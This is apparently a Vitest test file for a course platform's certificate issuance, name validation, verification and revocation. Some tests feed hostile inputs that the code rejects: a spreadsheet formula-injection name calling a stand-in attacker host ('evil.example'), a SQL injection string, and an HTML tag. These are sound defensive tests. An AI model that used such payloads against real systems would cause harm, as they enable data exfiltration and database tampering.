import path from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import { loadCourse } from '../../course/load.ts'
import type { LoadedCourse } from '../../course/loaded-course.ts'
import { db } from '../db/client.ts'
import { createLearner, seedCourseRows } from '../submissions/testing/seed-course.ts'
import {
  CertificateNameFrozenError,
  issueCertificates,
  learnerCertification,
  publicCertificate,
  revokeCertificate,
  setCertificateName,
  verificationCodePattern,
} from './certificates.ts'
import type { ProjectOutcome, ProjectOutcomeSource } from './project-outcomes.ts'

let mini: LoadedCourse
/** The mini course with homework-only rules: 50 % of the points, no project. */
let homeworkOnly: LoadedCourse
let courseId: string
let maxPoints: number

async function learnerWith(homeworkFraction: number, name: string | null = 'Learner') {
  const user = await createLearner({ enrolIn: courseId })
  await db.user.update({ where: { id: user.id }, data: { name } })
  await db.enrollment.update({ where: { userId_courseId: { userId: user.id, courseId } }, data: { homeworkPoints: homeworkFraction * maxPoints } })
  return user
}

/** The contract the final-project module will fulfil, given here as data. */
function projectOutcomes(byUser: Record<string, ProjectOutcome>): ProjectOutcomeSource {
  return { outcomes: async (_courseId, userIds) => new Map(userIds.filter((id) => byUser[id]).map((id) => [id, byUser[id]!])) }
}

beforeAll(async () => {
  mini = await loadCourse(path.resolve('tests/fixtures/courses/mini'))
  homeworkOnly = { ...mini, config: { ...mini.config, certificate: { min_homework_score: 0.5, project_required: false, reviews_required: 0 } } }
  courseId = (await seedCourseRows(mini)).courseId
  maxPoints = mini.weeks.reduce((sum, week) => sum + (week.homework?.totalPoints ?? 0), 0)
  expect(maxPoints).toBeGreaterThan(0)
})

describe('issuing certificates in bulk', () => {
  it('certifies exactly the eligible learners with a name, once, even when run twice at once', async () => {
    const passing = await learnerWith(0.75, 'Grace Hopper')
    const exactly = await learnerWith(0.5, 'Edsger Dijkstra')
    await learnerWith(0.49) // short of the mark
    await learnerWith(0.9, null) // eligible, but no name to print
    const summaries = await Promise.all([issueCertificates(homeworkOnly), issueCertificates(homeworkOnly)])
    const issued = await db.certificate.findMany({ where: { courseId }, select: { userId: true, recipientName: true, verificationCode: true } })
    expect(issued.map((c) => c.userId).sort()).toEqual([passing.id, exactly.id].sort())
    expect(summaries[0]!.issued + summaries[1]!.issued).toBe(2)
    expect(summaries.every((s) => s.notEligible === 1 && s.missingName === 1)).toBe(true)
    expect(issued.every((c) => verificationCodePattern.test(c.verificationCode))).toBe(true)
    expect(issued.find((c) => c.userId === passing.id)!.recipientName).toBe('Grace Hopper')
    const again = await issueCertificates(homeworkOnly)
    expect(again).toMatchObject({ issued: 0, alreadyCertified: 2, notEligible: 1, missingName: 1 })
  })

  it('a dry run counts without issuing', async () => {
    const learner = await learnerWith(1, 'Dry Run')
    const dry = await issueCertificates(homeworkOnly, { dryRun: true, userIds: [learner.id] })
    expect(dry.issued).toBe(1)
    expect(await db.certificate.count({ where: { userId: learner.id } })).toBe(0)
  })

  it('with Zoomcamp-style project rules, homework alone does not certify: the project is what is left', async () => {
    const learner = await learnerWith(1, 'Top Homework')
    const summary = await issueCertificates(mini, { userIds: [learner.id] })
    expect(summary).toMatchObject({ issued: 0, notEligible: 1 })
    const status = await learnerCertification(learner.id, mini)
    expect(status!.eligibility!.state).toBe('in_progress')
    expect(status!.eligibility!.requirements.find((r) => r.id === 'project')!.left).toMatch(/^Submit your final project/)
  })

  it('with project results, certifies on project passed and enough reviews', async () => {
    const done = await learnerWith(0.5, 'Project Done')
    const reviewing = await learnerWith(0.9, 'Still Reviewing')
    const projects = projectOutcomes({
      [done.id]: { submitted: true, passed: true, reviewsDone: 3 },
      [reviewing.id]: { submitted: true, passed: true, reviewsDone: 1 },
    })
    const summary = await issueCertificates(mini, { userIds: [done.id, reviewing.id], projects })
    expect(summary).toMatchObject({ issued: 1, notEligible: 1 })
    const left = await learnerCertification(reviewing.id, mini, projects)
    expect(left!.eligibility!.requirements.find((r) => r.id === 'reviews')!.left).toBe('Review 2 more projects by 22 Feb')
  })

  it('a course without a certificate section issues none, with a clear message', async () => {
    const { certificate: _, ...config } = mini.config
    await expect(issueCertificates({ ...mini, config })).rejects.toThrow(/issues no certificates/)
  })
})

describe('the name on the certificate', () => {
  it('is set by the learner, validated, and frozen at issue', async () => {
    const learner = await learnerWith(1, 'Account Name')
    await expect(setCertificateName(learner.id, mini.slug, '<b>x</b>')).rejects.toThrow(/letters/)
    await expect(setCertificateName(learner.id, mini.slug, ' ')).rejects.toThrow(/at least 2/)
    expect(await setCertificateName(learner.id, mini.slug, '  Zoë   Ō’Brien-Łukasiewicz ')).toBe('Zoë Ō’Brien-Łukasiewicz')
    expect((await learnerCertification(learner.id, mini))!.name).toBe('Zoë Ō’Brien-Łukasiewicz')
    const { codes } = await issueCertificates(homeworkOnly, { userIds: [learner.id] })
    expect((await publicCertificate(codes[0]!))!.recipientName).toBe('Zoë Ō’Brien-Łukasiewicz')
    await expect(setCertificateName(learner.id, mini.slug, 'Another Name')).rejects.toBeInstanceOf(CertificateNameFrozenError)
    await db.user.update({ where: { id: learner.id }, data: { name: 'Renamed Account' } })
    expect((await publicCertificate(codes[0]!))!.recipientName).toBe('Zoë Ō’Brien-Łukasiewicz')
  })

  it('falls back to the account name only when the name form would accept it; else the learner is eligible, no name', async () => {
    const hostile = await learnerWith(1, '=HYPERLINK("http://evil.example/?"&A1,"click")')
    const spaced = await learnerWith(1, '  Ada   Lovelace ')
    expect((await learnerCertification(hostile.id, mini))!.name).toBeNull()
    const summary = await issueCertificates(homeworkOnly, { userIds: [hostile.id, spaced.id] })
    expect(summary).toMatchObject({ issued: 1, missingName: 1 })
    expect(await db.certificate.count({ where: { userId: hostile.id } })).toBe(0)
    expect((await publicCertificate(summary.codes[0]!))!.recipientName).toBe('Ada Lovelace')
    // Once the learner sets a name, that name is issued.
    await setCertificateName(hostile.id, mini.slug, 'Eve Mallory')
    const { codes } = await issueCertificates(homeworkOnly, { userIds: [hostile.id] })
    expect((await publicCertificate(codes[0]!))!.recipientName).toBe('Eve Mallory')
  })

  it('needs an enrolment', async () => {
    const outsider = await createLearner()
    await expect(setCertificateName(outsider.id, mini.slug, 'Out Sider')).rejects.toThrow(/Enrol/)
  })
})

describe('verification and revocation', () => {
  it('valid, then revoked with a reason kept private; unknown and malformed ids are unknown', async () => {
    const learner = await learnerWith(1, 'To Revoke')
    const instructor = await createLearner()
    const { codes } = await issueCertificates(homeworkOnly, { userIds: [learner.id] })
    const code = codes[0]!
    expect(await publicCertificate(code)).toMatchObject({ state: 'valid', recipientName: 'To Revoke', course: { slug: mini.slug }, revokedAt: null })
    await expect(revokeCertificate({ verificationCode: code, reason: 'x' }, instructor.id)).rejects.toThrow(/reason/)
    await expect(revokeCertificate({ verificationCode: code, reason: 'Plagiarised project' }, instructor.id, 'another-course-id')).rejects.toThrow(/not found/)
    await revokeCertificate({ verificationCode: code, reason: 'Plagiarised project' }, instructor.id)
    const revoked = await publicCertificate(code)
    expect(revoked).toMatchObject({ state: 'revoked' })
    expect(revoked!.revokedAt).toBeInstanceOf(Date)
    expect(JSON.stringify(revoked)).not.toMatch(/Plagiarised|@example/)
    await expect(revokeCertificate({ verificationCode: code, reason: 'Twice' }, instructor.id)).rejects.toThrow(/already revoked/)
    expect(await db.certificate.findUnique({ where: { verificationCode: code }, select: { revokedReason: true, revokedById: true } })).toEqual({
      revokedReason: 'Plagiarised project',
      revokedById: instructor.id,
    })
    expect(await publicCertificate('abcdefghjkmnpqrstuvw')).toBeNull()
    expect(await publicCertificate("' OR 1=1 --")).toBeNull()
  })
})
